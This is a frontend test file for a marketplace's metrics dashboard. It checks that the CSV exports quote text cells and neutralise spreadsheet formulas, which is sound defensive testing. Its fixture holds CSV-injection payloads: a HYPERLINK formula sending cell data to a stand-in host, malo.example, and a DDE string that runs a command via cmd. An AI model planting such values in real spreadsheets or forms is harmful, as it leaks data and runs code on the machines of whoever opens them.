import type { AdsMetrics, BusinessMetrics } from '@servihogar/shared/metrics';
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { layoutApi } from '@/test/marketplace-api.ts';
import { mockApi, renderRoute } from '@/test/render-route.tsx';

// jsdom draws no canvas: the weekly chart's lines are left out, its panel and CSV stay.
vi.mock('uplot', () => ({
  default: class {
    setSize() {}
    destroy() {}
  },
}));

// Every text a person can write that reaches a Métricas export (an ad's title and kind, a
// category's and a locality's name), each starting as a spreadsheet formula.
const HOSTILE = {
  titulo: '=HYPERLINK("http://malo.example/?"&A1,"Ver")',
  tipo: "+1+cmd|' /C calc'!A0",
  categoria: '-2+3;=1+1',
  localidad: '@SUMA(1;1)',
  otroTitulo: '\t=1+1',
  otraCategoria: '\r=1+1',
};

const business: BusinessMetrics = {
  signups: [{ semana: '2026-11-16', clientes: 3, profesionales: 2 }],
  cohorts: [{ mes: '2026-10', enPrueba: 4, pagaron: 1 }],
  listedByCategory: [
    { categoria: HOSTILE.categoria, profesionales: 5 },
    { categoria: HOSTILE.otraCategoria, profesionales: 1 },
  ],
  demand: [{ categoria: HOSTILE.categoria, localidad: HOSTILE.localidad, contactos: 7, profesionales: 2 }],
  subscriptionsByState: [{ estado: 'confirmed', suscripciones: 2 }],
  income: { mes: '2026-11', pesos: 1000, pagos: 1 },
  complaints: [{ estado: 'Pendiente', criticidad: 'Alta', denuncias: 1 }],
};
const ads: AdsMetrics = {
  ads: [
    {
      id: '00000000-0000-4000-8000-000000000009',
      titulo: HOSTILE.titulo,
      tipo: HOSTILE.tipo,
      impresiones: 10,
      clics: 1,
    },
    {
      id: '00000000-0000-4000-8000-000000000008',
      titulo: HOSTILE.otroTitulo,
      tipo: 'Banner',
      impresiones: 3,
      clics: 0,
    },
  ],
};

/** The cells of a `;`-separated CSV, each as written (quotes kept) — a small RFC 4180 reader. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  let at = csv.startsWith('\uFEFF') ? 1 : 0;
  while (at < csv.length) {
    let end = at;
    if (csv[at] === '"') {
      end++;
      while (end < csv.length && !(csv[end] === '"' && csv[end + 1] !== '"')) end += csv[end] === '"' ? 2 : 1;
      end++;
    } else while (end < csv.length && csv[end] !== ';' && csv[end] !== '\r') end++;
    cells.push(csv.slice(at, end));
    at = end + (csv.startsWith('\r\n', end) ? 2 : 1);
  }
  return cells;
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('Métricas (/dash/metricas): the CSV files', () => {
  it('write every text cell of every export quoted, and never as a formula', async () => {
    const blobs: Blob[] = [];
    const { createObjectURL: create, revokeObjectURL: revoke } = URL;
    URL.createObjectURL = (blob: Blob) => {
      blobs.push(blob);
      return 'blob:csv';
    };
    URL.revokeObjectURL = () => {};
    onTestFinished(() => {
      URL.createObjectURL = create;
      URL.revokeObjectURL = revoke;
    });
    const saved: string[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      saved.push(this.download);
    });
    mockApi({ ...layoutApi, '/metrics/business': () => business, '/metrics/ads': () => ads });
    renderRoute('/dash/metricas', { roles: ['Admin'] });

    await screen.findByRole('region', { name: 'Publicidades: impresiones y clics' });
    const buttons = await screen.findAllByRole('button', { name: 'Descargar CSV' });
    for (const button of buttons) await userEvent.click(button);
    await waitFor(() => expect(saved).toHaveLength(7));
    expect(saved).toContain('metricas-publicidades.csv');
    expect(saved).toContain('metricas-categorias.csv');

    const written = (await Promise.all(blobs.map((blob) => blob.text()))).flatMap(cellsOf);
    const isNumber = (cell: string) => /^\d+(,\d+)?$/.test(cell);
    const texts = written
      .filter((cell) => !isNumber(cell))
      .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
    // No text cell that a spreadsheet would run as a formula…
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
    // …and every one quoted, so that no separator or line break inside cuts it.
    expect(written.filter((cell) => !isNumber(cell) && !/^"[\s\S]*"$/.test(cell))).toEqual([]);
    // The hostile text is all there, to be read: after a single quote, cut nowhere.
    const { localidad, ...cellStarts } = HOSTILE;
    for (const value of Object.values(cellStarts)) expect(texts).toContain(`'${value}`);
    expect(texts).toContain(`'${HOSTILE.categoria} · ${localidad}`);
  });
});
